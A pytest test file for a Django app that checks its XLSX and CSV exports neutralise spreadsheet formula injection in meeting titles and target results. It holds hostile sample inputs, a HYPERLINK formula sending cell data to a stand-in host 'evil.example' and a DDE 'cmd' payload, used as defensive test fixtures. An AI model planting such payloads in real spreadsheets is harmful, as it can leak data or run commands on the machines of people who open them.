"""Exports write text as text: a typed formula is neither live in XLSX nor in CSV (issue 13.3)."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from branchapp.documents.spreadsheets import csv_bytes, workbook_bytes
from branchapp.scoping import SECRETARIAT_ROLE

from .factories import CellFactory, MeetingFactory, TargetFactory, user_with_role

pytestmark = pytest.mark.django_db

Y = 2021
ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")'


def register(org, name="cuoc-hop"):
    return f"/workspace/nam/{org.pk}/{Y}/so/{name}/"


@pytest.fixture
def committee(client):
    cell = CellFactory(name="Chi bộ Khoa Xây dựng Đảng")
    MeetingFactory(organisation=cell, title=ATTACK, date=datetime.date(Y, 5, 3))
    client.force_login(user_with_role(SECRETARIAT_ROLE, cell.parent))
    return cell.parent


def test_a_formula_typed_as_a_title_is_text_in_the_xlsx_export(client, committee):
    response = client.get(register(committee), {"xuat": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == ATTACK)
    assert cell.data_type == "s"  # a string cell: Excel shows the text, runs nothing
    assert cell.quotePrefix  # and keeps it text when the cell is edited
    assert "HYPERLINK" not in _formulas(response.content)


def _formulas(xlsx: bytes) -> str:
    """The formula elements of the file's sheets (none is expected)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return "".join(
            part.split("</f>")[0]
            for name in sheets
            for part in archive.read(name).decode().split("<f>")[1:]
        )


def test_a_formula_typed_as_a_title_is_quoted_in_the_csv_export(client, committee):
    response = client.get(register(committee), {"xuat": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    titles = [row[2] for row in rows[1:]]
    assert titles == ["'" + ATTACK]  # the text is still readable after the apostrophe


def test_target_results_export_keeps_negative_numbers_as_numbers(client, committee):
    TargetFactory(
        organisation=committee, year=Y, title="+Giảm 2 vụ vi phạm", actual_value=Decimal("-2")
    )
    response = client.get(f"/workspace/nam/{committee.pk}/{Y}/chi-tieu.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(r for r in sheet.iter_rows() if r[1].value == "+Giảm 2 vụ vi phạm")
    assert row[1].data_type == "s" and row[1].quotePrefix
    assert row[4].value == -2 and row[4].data_type == "n"


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "=cmd|' /C calc'!A0"]
)
def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(text):
    rows = [[text, -5, Decimal("-1.5"), 3.25, "an toàn", datetime.date(2021, 5, 19)]]
    sheet = load_workbook(io.BytesIO(workbook_bytes([("Sổ", ["a"] * 6, rows, text)]))).active
    caption, cells = sheet["A1"], list(sheet[4])
    assert caption.value == text and caption.data_type == "s" and caption.quotePrefix
    assert cells[0].value == text and cells[0].data_type == "s" and cells[0].quotePrefix
    assert [c.value for c in cells[1:4]] == [-5, -1.5, 3.25]
    assert all(c.data_type == "n" for c in cells[1:4])
    assert not cells[4].quotePrefix
    written = list(csv.reader(io.StringIO(csv_bytes(["h"] * 6, rows).decode("utf-8-sig"))))
    assert written[1] == ["'" + text, "-5", "-1.5", "3.25", "an toàn", "19/05/2021"]


def test_control_characters_xlsx_cannot_hold_are_left_out():
    content = workbook_bytes([("S", ["a"], [["Chi bộ\x01 số 1\x1f"]], "")])
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "Chi bộ số 1"
